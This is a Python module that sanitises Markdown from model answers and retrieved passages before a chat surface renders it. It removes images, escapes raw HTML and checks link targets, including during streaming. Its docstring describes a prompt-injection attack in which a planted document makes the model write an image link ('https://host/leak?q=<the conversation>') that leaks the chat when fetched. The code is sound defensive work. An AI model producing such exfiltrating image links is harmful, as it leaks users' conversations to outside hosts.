"""Markdown that is safe to render: model output and passage text in the chat and in Teams.

A planted document can make the model write Markdown, and passages are shown
as Markdown too. Chainlit renders an image the moment it appears (the browser
fetches its URL with no click: ``![](https://host/leak?q=<the conversation>)``
leaks the chat), and with ``unsafe_allow_html`` it would render raw HTML. So
everything a model or a document wrote goes through `safe_markdown` before a
surface shows it:

- images become text: ``![alt](url)`` turns into ``alt (bilde ikke vist)``, and
  any other ``![`` is escaped, so no image syntax survives (inline, reference
  or half-streamed);
- raw HTML and autolinks are escaped (``<`` before a tag name, ``/``, ``!`` or
  ``?`` becomes ``&lt;``); a ``<`` before a digit or a space, as in ``CRP <5``,
  is kept as written;
- links keep working only when their target starts with an allowed prefix
  (``http://`` and ``https://`` by default; callers add their own routes, such
  as ``/project/file/``); others lose their link syntax and show as text.
  Link reference definitions (``[ref]: url``) are escaped, so only inline links
  remain and every one of them is checked.

Deny by default: whatever is not recognised as safe loses its syntax. The cost
is cosmetic (an escape may show inside a code span). What is left: bare e-mail
addresses, which Chainlit's Markdown (GFM) turns into ``mailto:`` links; they
fetch nothing and need a click.

`SafeStream` does the same for an answer that streams token by token: each
step shows the sanitised text so far, so a half-written image is never
rendered either.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass

HTTP_LINK_PREFIXES: tuple[str, ...] = ("https://", "http://")
IMAGE_NOT_SHOWN = "(bilde ikke vist)"

# `![alt](destination "title")` with no brackets inside the alt text and no
# parentheses inside the destination: the common, well-formed case.
_INLINE_IMAGE = re.compile(r"!\[([^\[\]\n]*)\]\([^()\n]*\)")
# A raw HTML tag, comment, declaration or processing instruction, or an autolink,
# starts with `<` and one of these (CommonMark 6.6 and 6.5).
_HTML_START = re.compile(r"<(?=[A-Za-z/!?])")
# A link reference definition: up to three spaces of indent, optionally inside
# block quotes and list items, then `[label]:`.
_REFERENCE_DEFINITION = re.compile(
    r"^((?:[ \t]*>)*[ \t]*(?:(?:[-*+]|\d{1,9}[.)])[ \t]+)*)\[((?:[^\[\]\\\n]|\\.){1,999})\]:",
    re.MULTILINE,
)
_LINK_OPENING = "]("
# Between `(` and the destination CommonMark allows spaces, tabs and one line ending.
_DESTINATION_START = re.compile(r"[ \t]*\n?[ \t]*<?")


def _without_images(text: str) -> str:
    def as_text(match: re.Match[str]) -> str:
        alt = match.group(1).strip()
        return f"{alt} {IMAGE_NOT_SHOWN}" if alt else IMAGE_NOT_SHOWN

    text = _INLINE_IMAGE.sub(as_text, text)
    # Anything else that could still start an image (reference images, a
    # destination with parentheses, a half-streamed one) loses its bracket.
    return text.replace("![", "!\\[")


def _link_allowed(destination: str, prefixes: tuple[str, ...]) -> bool:
    lowered = destination.lower()
    # `//host` and `/\host` are other sites to a browser, whatever prefix matched.
    if lowered.startswith(("//", "/\\")):
        return False
    return any(lowered.startswith(prefix) for prefix in prefixes)


def _checked_links(text: str, prefixes: tuple[str, ...]) -> str:
    parts: list[str] = []
    position = 0
    while (found := text.find(_LINK_OPENING, position)) != -1:
        after = found + len(_LINK_OPENING)
        start = _DESTINATION_START.match(text, after)
        destination = text[start.end() if start else after :]
        parts.append(text[position:found])
        parts.append(_LINK_OPENING if _link_allowed(destination, prefixes) else "]\\(")
        position = after
    parts.append(text[position:])
    return "".join(parts)


def safe_markdown(text: str, allowed_link_prefixes: Iterable[str] = HTTP_LINK_PREFIXES) -> str:
    """`text` as Markdown that renders no image, no raw HTML and no link outside the allowed prefixes.

    ``allowed_link_prefixes``: what a link target must start with (compared
    case-insensitively), e.g. ``("https://", "http://", "/project/file/")``.
    """
    prefixes = tuple(p.lower() for p in allowed_link_prefixes if p)
    text = _HTML_START.sub("&lt;", text)
    text = _without_images(text)
    text = _REFERENCE_DEFINITION.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}]:", text)
    return _checked_links(text, prefixes)


@dataclass(frozen=True)
class StreamUpdate:
    """What to send for one streamed token: `text` is appended, or replaces all when `replace`."""

    text: str
    replace: bool


class SafeStream:
    """Sanitises an answer while it streams.

    Feed it the model's tokens; send each update to the surface (Chainlit:
    ``await message.stream_token(update.text, is_sequence=update.replace)``).
    Usually an update appends; when sanitising the longer text changes what was
    already shown (an image or link completes), it replaces the whole text.
    """

    def __init__(self, allowed_link_prefixes: Iterable[str] = HTTP_LINK_PREFIXES):
        self._prefixes = tuple(allowed_link_prefixes)
        self._raw = ""
        self._shown = ""

    @property
    def text(self) -> str:
        """The sanitised text so far."""
        return self._shown

    def feed(self, token: str) -> StreamUpdate:
        self._raw += token
        safe = safe_markdown(self._raw, self._prefixes)
        update = (
            StreamUpdate(safe[len(self._shown) :], replace=False)
            if safe.startswith(self._shown)
            else StreamUpdate(safe, replace=True)
        )
        self._shown = safe
        return update
